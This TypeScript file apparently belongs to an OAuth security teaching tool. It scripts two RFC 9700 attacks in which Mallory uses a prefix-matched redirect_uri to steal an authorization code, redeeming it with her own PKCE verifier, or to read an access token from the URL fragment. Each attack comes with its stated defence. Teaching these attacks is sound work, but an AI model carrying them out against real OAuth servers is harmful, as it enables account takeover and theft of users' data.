import type { Attack, Script, Variant } from './attack'
import { authorizeUrl, MALLORYS_VERIFIER, WITHOUT_CHALLENGE } from './authorize-url'
import {
  type AttackedClient,
  aliceIsSentToAsk,
  answerArrives,
  COLLECTING_PAGE,
  forgedRequest,
  fragmentIsRead,
  looselyRegistered,
} from './lures'
import { malloryRedeems } from './parts'
import { postForm } from './requests'
import { readsPhotos } from './stolen-token'
import type { AttackTools } from './tools'

/** An address of Mallory's that begins like one of the registered ones. */
const elsewhere = ({ origins }: Pick<AttackTools, 'origins'>) => `${origins.attacker}${COLLECTING_PAGE}`

const asks = forgedRequest(
  {
    title: 'The request says to answer Mallory',
    caption:
      'redirect_uri names Mallory’s site. It begins like an address that the app registered, and this decides everything.',
  },
  {
    title: 'The answer goes to Mallory’s site',
    caption: 'Alice approved an app she trusts. The server took the wrong address for one of the app’s.',
  },
)

/** The challenge in the request is Mallory's, so she has its verifier: PKCE binds the code to whoever asked. */
function redeem({ need, origins, client }: AttackTools, clientId: string) {
  const code = need('authorization_code', 'No code has come to Mallory’s site.', 'site')
  const parameters = { grant_type: 'authorization_code', code, redirect_uri: elsewhere({ origins }) }
  const { client_id } = client(clientId)
  return postForm(`${origins.issuer}/token`, { ...parameters, client_id, code_verifier: MALLORYS_VERIFIER })
}

function codeStolen(clientId: AttackedClient): Variant {
  const script: Script = [
    aliceIsSentToAsk((tools) => authorizeUrl(tools, clientId, { redirect_uri: elsewhere(tools) })),
    asks,
    answerArrives(
      { title: 'Alice’s browser brings the code', caption: 'The code is in the address, and Mallory’s site reads it.' },
      'authorization_code',
    ),
    malloryRedeems(
      {
        title: 'Mallory redeems the code',
        caption: 'Mallory repeats the redirect_uri, and even has the verifier: the challenge in the request was hers.',
      },
      (tools) => redeem(tools, clientId),
    ),
    readsPhotos('answer'),
  ]
  const title = 'An address that begins like a registered one'
  return { setup: looselyRegistered(clientId), cases: [{ id: 'usual', title, script }] }
}

/** RFC 9700, section 4.1.1. */
export const looseRedirectCode: Attack = {
  id: 'A-01',
  slug: 'loose-redirect-code',
  tier: 1,
  title: 'The code goes to an address of Mallory’s',
  summary:
    'Mallory has Alice approve an app she trusts, with a redirect_uri that only begins like a registered one, and redeems the code that arrives there.',
  attacker: 'Somebody with a web page that Alice visits.',
  defence: 'redirect_uri is compared with the registered ones in full, character by character.',
  cites: ['rfc9700-4.1.1', 'rfc9700-4.1.3', 'rfc6749-10.6'],
  oracle: 'reads-data',
  switches: { redirectMatching: 'prefix', clientAuthenticationRequired: false },
  needs: ['code-through-browser', 'user-data-read'],
  on: {
    'authorization-code': codeStolen('photo-editor'),
    'authorization-code-browser': codeStolen('photo-gallery'),
  },
}

const tokenScript: Script = [
  aliceIsSentToAsk((tools) =>
    authorizeUrl(tools, 'photo-gallery', {
      ...WITHOUT_CHALLENGE,
      response_type: 'token',
      redirect_uri: elsewhere(tools),
    }),
  ),
  asks,
  answerArrives({
    title: 'Alice’s browser comes to Mallory’s page',
    caption: 'The token is in the fragment of the address. The request for the page does not carry it.',
  }),
  fragmentIsRead('access_token'),
  readsPhotos('site'),
]

/** RFC 9700, section 4.1.2. */
export const looseRedirectToken: Attack = {
  ...looseRedirectCode,
  id: 'A-02',
  slug: 'loose-redirect-token',
  title: 'The token goes to an address of Mallory’s',
  summary:
    'Mallory has Alice approve an app she trusts, with a redirect_uri that only begins like a registered one, and reads the token from the address.',
  defence:
    'redirect_uri is compared in full; and a server that puts no tokens into redirects has none to send to the wrong place.',
  cites: ['rfc9700-4.1.2', 'rfc9700-2.1.2', 'rfc9700-4.1.3'],
  switches: { redirectMatching: 'prefix', implicit: true },
  needs: ['token-through-browser', 'user-data-read'],
  on: {
    implicit: {
      setup: looselyRegistered('photo-gallery'),
      cases: [{ id: 'usual', title: 'An address that begins like a registered one', script: tokenScript }],
    },
  },
}
